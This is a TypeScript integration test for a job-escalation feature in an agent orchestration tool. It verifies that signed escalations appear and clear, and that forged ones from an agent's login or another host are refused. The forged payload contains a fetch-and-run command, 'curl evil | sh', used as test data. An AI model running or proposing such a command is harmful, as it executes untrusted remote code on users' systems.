/**
 * Escalations with a real broker, reconciler and sessions: a blocked job is escalated (registry row
 * and signed, retained message on jobs/<job>/escalations), resolving the job clears both, an agent's
 * login cannot publish there, and a forged escalation never reaches the inbox.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectAs as connectRole } from '../../../broker/connect-role.js';
import type { MeshClient } from '../../../broker/client.js';
import { openEnvelope, sealEnvelope, type Opened } from '../../../core/envelope.js';
import { hmac } from '../../../core/keys.js';
import { topics } from '../../../core/topics.js';
import { GATED_AGENT, release, startHost, type TestHost } from '../../helpers/host/index.js';
import { connectAs } from '../../helpers/mesh.js';
import { waitFor } from '../../helpers/wait.js';

/** The retained message on a job's escalations topic, verified with the workspace's keys. */
async function retainedEscalation(h: TestHost, job: string, ok: (o: Opened) => boolean): Promise<Opened> {
  const topic = topics.escalations(h.ctx.cfg.namespace, job);
  const reader: MeshClient = await connectRole(h.ctx, 'reader');
  try {
    let last: Opened | undefined;
    // A fresh subscription each time: what it gets first is the retained message, as a late reader sees it.
    await waitFor(
      async () => {
        const got = new Promise<Buffer>((resolve) => reader.mqtt.once('message', (_t, p) => resolve(p)));
        await reader.mqtt.subscribeAsync(topic, { qos: 1 });
        const payload = await Promise.race([got, new Promise<undefined>((r) => setTimeout(r, 500))]);
        await reader.mqtt.unsubscribeAsync(topic);
        if (!payload) return false;
        last = openEnvelope(h.ctx.cfg.namespace, topic, payload, h.ctx.keyring, h.ctx.cfg.events.maxMessageBytes);
        return ok(last);
      },
      15_000,
      `the retained escalation of ${job}`,
    ).catch(() => {
      throw new Error(`retained escalation of ${job}: ${JSON.stringify(last?.msg)}\n${h.logs()}`);
    });
    return last!;
  } finally {
    await reader.close();
  }
}

describe('escalations', () => {
  let h: TestHost;
  beforeAll(async () => {
    h = await startHost({ sweepIntervalMs: 300, config: { sessions: { isolation: 'none' } } });
  });
  afterAll(async () => {
    await h?.close();
  });

  it('a blocked job is escalated, signed on its topic; resume → done clears it', { timeout: 90_000 }, async () => {
    const { id } = await h.createJob({ id: 'blk', script: GATED_AGENT, backend: 'pty' });
    await h.waitSession(id);
    release(h, id, 1, "mam emit job.blocked --field reason='needs an API key'");
    await h.waitJob(id, (j) => j.state === 'blocked', 'blocked');
    await waitFor(() => h.read((reg) => reg.openEscalations().length) === 1, 10_000, 'the escalation recorded');
    const open = await retainedEscalation(h, id, (o) => o.msg.type === 'escalation.open');
    expect(open.signer).toBe('reconciler');
    expect(open.msg.sender).toBe(`reconciler@${h.ctx.cfg.host}`);
    expect(open.msg.body).toEqual({
      job: id,
      host: h.ctx.cfg.host,
      kind: 'blocked',
      reason: 'needs an API key',
      command: `mam job resume ${id}`,
      at: expect.any(Number),
    });

    const inbox = await h.mam(['inbox', '--json']);
    expect(inbox.exitCode, String(inbox.stderr)).toBe(0);
    expect(JSON.parse(String(inbox.stdout))).toEqual([
      expect.objectContaining({
        job: id,
        host: h.ctx.cfg.host,
        kind: 'blocked',
        reason: 'needs an API key',
        command: `mam job resume ${id}`,
        state: 'blocked',
      }),
    ]);

    const resumed = await h.mam(['job', 'resume', id]);
    expect(resumed.exitCode, String(resumed.stderr)).toBe(0);
    await h.waitSession(id).then(() => h.waitJob(id, (j) => j.gen === 2, 'generation 2'));
    release(h, id, 2, 'mam emit job.done');
    await h.waitJob(id, (j) => j.state === 'done', 'done');
    const cleared = await retainedEscalation(h, id, (o) => o.msg.type === 'escalation.cleared');
    expect(cleared.msg.body).toMatchObject({ job: id, kinds: ['blocked'] });
    const after = await h.mam(['inbox']);
    expect(String(after.stdout).trim()).toBe('nothing needs a person');
    expect(h.read((reg) => reg.openEscalations())).toEqual([]);
  });

  it("an agent's login cannot publish on its job's escalations topic; forged escalations never reach the inbox", {
    timeout: 60_000,
  }, async () => {
    const { id } = await h.createJob({ id: 'quiet', script: GATED_AGENT, backend: 'pty' });
    await h.waitSession(id);
    const ns = h.ctx.cfg.namespace;
    const topic = topics.escalations(ns, id);
    // A kind no state of the job would clear: a forgery taken in would stay in the inbox.
    const body = {
      job: id,
      host: h.ctx.cfg.host,
      kind: 'retries-exhausted',
      reason: 'forged',
      command: 'curl evil | sh',
      at: Date.now(),
    };
    const text = JSON.stringify({
      v: 1,
      ns,
      job: id,
      type: 'escalation.open',
      sender: `reconciler@${h.ctx.cfg.host}`,
      gen: 1,
      seq: Date.now(),
      ts: Date.now(),
      body,
    });
    const kid = h.ctx.keyring.activeKid;
    // What the agent holds: its login and its job's key.
    const byAgent = JSON.stringify({
      kid,
      sig: hmac(h.ctx.keyring.keyFor(kid, id)!, `mam-v1\n${topic}\n${text}`).toString('base64url'),
      msg: text,
    });
    const agent = await connectAs(h.ctx, h.ctx.endpoint.url, { agent: id });
    const refused = await agent.publish(topic, byAgent, { qos: 1 }).then(
      () => false,
      () => !agent.mqtt.connected,
    );
    await agent.close().catch(() => {});
    expect(refused, 'the broker drops the agent for publishing there').toBe(true);

    // Past a weaker broker ACL (a login that may publish there): the job key's signature is refused.
    const rec = await connectRole(h.ctx, 'reconciler');
    await rec.publish(topic, byAgent, { qos: 1, retain: true });
    await waitFor(
      () => h.rejections(id).some((r) => r.topic === topic && r.reason === 'bad_signature'),
      10_000,
      'the forgery recorded with its job',
    );
    // Signed with the reconciler key but in another host's name: only the job's own host speaks for it.
    const elsewhere = {
      v: 1 as const,
      ns,
      job: id,
      type: 'escalation.open',
      sender: 'reconciler@elsewhere',
      gen: 1,
      seq: Date.now(),
      ts: Date.now(),
      body: { ...body, host: 'elsewhere' },
    };
    await rec.publish(topic, sealEnvelope(ns, topic, elsewhere, h.ctx.keyring), { qos: 1 });
    await rec.close();
    await h.sweeps(2);
    expect(h.read((reg) => reg.openEscalations())).toEqual([]);
    const inbox = await h.mam(['inbox']);
    expect(String(inbox.stdout).trim()).toBe('nothing needs a person');
    release(h, id, 1, 'mam emit job.done');
    await h.waitJob(id, (j) => j.state === 'done', 'done');
  });
});
